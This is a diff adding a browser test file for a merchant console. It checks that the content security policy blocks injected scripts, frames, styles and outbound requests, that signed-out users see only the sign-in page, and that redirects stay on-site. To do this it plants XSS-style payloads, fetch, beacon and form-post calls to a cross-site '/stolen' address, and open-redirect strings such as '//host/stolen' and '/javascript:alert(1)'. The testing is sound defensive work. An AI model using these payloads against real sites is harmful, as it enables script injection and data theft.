@@ -1,0 +1,133 @@
+// What the console's policy stops if something foreign ever gets into a page, and where addresses lead who is signed out.
+import assert from 'node:assert/strict'
+import { rights } from '../../../../src/domain/person.ts'
+import type { Page } from '../../../support/browser/browser.ts'
+import { type ConsoleWorld, fillSignIn, openConsoleWorld, titled } from '../../../support/browser/console-browser.ts'
+import { after, before, describe, it } from '../../../support/browser/test.ts'
+import { ofMerchant, signedIn } from '../../../support/clients/console.ts'
+import { type ForeignSite, openForeignSite } from '../../../support/sites/foreign-site.ts'
+
+const merchantId = 'TESTMERCHANT'
+const password = 'a password of nineteen'
+
+// The components behind the registry are for the browser; their types stay out of this check.
+const registry = new URL('../../../../web/console/src/pages.ts', import.meta.url).href
+const { pages } = (await import(registry)) as { readonly pages: readonly { readonly path: string }[] }
+
+describe('a page of the console', () => {
+  let world: ConsoleWorld
+  let site: ForeignSite
+  before(async () => {
+    world = await openConsoleWorld()
+    site = await openForeignSite(world.gateway.doors.httpUrl ?? '')
+    const { passwords, people } = world.gateway.ports
+    const hash = (await passwords.hash(password)) ?? assert.fail('nobody has time')
+    const ada = { merchantId, login: 'ada', name: 'Ada', rights, mustChangePassword: false }
+    await people.add(ada, hash, { actor: 'a test', at: new Date() })
+  })
+  after(async () => {
+    await site.close()
+    await world.stop()
+  })
+
+  /** Which of the directives have stopped nothing although there was time. */
+  const notStopped = (page: Page, directives: readonly string[]) =>
+    page.evaluate<readonly string[]>(`new Promise((resolve) => {
+      const missing = () => ${JSON.stringify(directives)}.filter((each) => !stopped.includes(each))
+      const look = () => { if (missing().length === 0) resolve([]) }
+      addEventListener('securitypolicyviolation', look)
+      setTimeout(() => resolve(missing()), 10_000)
+      look()
+    })`)
+
+  it('runs nothing that is put into it, sends nothing away, and goes on working', async () => {
+    const page = await world.open('/account', { as: await signedIn(world.gateway) })
+    await titled(page, 'Your account')
+    const strange = new URL('/stolen', site.crossSite('')).href
+    await page.evaluate(`{
+      globalThis.stopped = []
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.push(effectiveDirective))
+      const put = (name, members) => document.body.append(Object.assign(document.createElement(name), members))
+      put('script', { textContent: 'globalThis.ran = true' })
+      put('script', { src: '${strange}.js' })
+      put('script', { src: 'data:text/javascript,globalThis.ran=true' })
+      put('div', { innerHTML: '<img src="/console/nothing" onerror="globalThis.ran = true"><p style="color: red">x</p>' })
+      put('style', { textContent: 'body { background: url(${strange}.png) }' })
+      put('img', { src: '${strange}.png' })
+      put('iframe', { src: '${strange}.html' })
+      put('iframe', { srcdoc: '<script>parent.ran = true</scr' + 'ipt>' })
+      put('object', { data: '${strange}.svg' })
+      put('base', { href: '${strange}/' })
+      put('a', { href: 'javascript:globalThis.ran=true', id: 'planted' })
+      document.querySelector('#planted').click()
+      fetch('${strange}').catch(() => {})
+      navigator.sendBeacon('${strange}')
+      setTimeout(() => { try { eval('globalThis.ran = true') } catch {} })
+      try { new Worker('data:text/javascript,0') } catch {}
+    }`)
+    const expected = ['base-uri', 'connect-src', 'frame-src', 'img-src', 'object-src']
+    const scripts = ['script-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem']
+    assert.deepEqual(await notStopped(page, [...expected, ...scripts]), [])
+    assert.equal(await page.evaluate('globalThis.ran'), undefined)
+    assert.deepEqual(site.strays, [], 'nothing went there')
+    await page.getByRole('link', { name: 'People' }).click()
+    await titled(page, 'People')
+    await page.getByRole('link', { name: 'Orders', exact: true }).click()
+    await titled(page, 'Orders')
+    await page.evaluate(`{
+      const form = Object.assign(document.createElement('form'), { action: '${strange}', method: 'post' })
+      document.body.append(form)
+      form.submit()
+    }`)
+    assert.deepEqual(await notStopped(page, ['form-action']), [])
+    assert.deepEqual(site.strays, [], 'no form went there')
+    await page.close()
+  })
+
+  it('shows nothing but the sign-in to whoever is signed out, at every address', async () => {
+    const page = await world.open('/')
+    const asked: string[] = []
+    page.on('request', (request) => {
+      const { pathname } = new URL(request.url())
+      if (pathname.startsWith('/console/api/')) asked.push(pathname)
+    })
+    for (const { path } of pages) {
+      const address = `/console${path.replaceAll(':merchantId', merchantId).replaceAll(/:\w+/g, 'x')}?status=CAPTURED`
+      await page.goto(new URL(address, world.gateway.doors.httpUrl).href)
+      await titled(page, 'Sign in')
+      assert.equal(await page.getByRole('navigation').count(), 0, path)
+      const { pathname, search } = new URL(page.url())
+      assert.equal(pathname + search, address, 'the address stays, for afterwards')
+    }
+    assert.deepEqual(new Set(asked), new Set(['/console/api/session']), 'nothing else was even asked for')
+    await page.close()
+  })
+
+  it('leads back to exactly the address that was asked for', async () => {
+    const rest = `${ofMerchant('/orders')}?status=CAPTURED&reference=a%26b%3C`
+    const page = await world.open(rest)
+    await fillSignIn(page, { merchantId, login: 'ada', password })
+    await titled(page, 'Orders')
+    const { searchParams } = new URL(page.url())
+    assert.deepEqual([searchParams.get('status'), searchParams.get('reference')], ['CAPTURED', 'a&b<'])
+    await page.close()
+  })
+
+  it('never leads to another site, whatever its address says', async () => {
+    const as = await signedIn(world.gateway)
+    const elsewhere = new URL('/stolen', site.crossSite('')).href
+    for (const rest of [
+      `//${new URL(elsewhere).host}/stolen`,
+      `?next=${elsewhere}&returnTo=${elsewhere}#${elsewhere}`,
+      '/javascript:alert(1)',
+      `/merchants/${encodeURIComponent('../../..')}/orders`,
+    ]) {
+      const page = await world.open(rest, { as })
+      page.on('dialog', () => assert.fail('something ran'))
+      await page.getByRole('heading').first().waitFor()
+      assert.equal(new URL(page.url()).origin, new URL(world.gateway.doors.httpUrl ?? '').origin, rest)
+      await page.close()
+    }
+    assert.deepEqual(site.strays, [])
+  })
+})
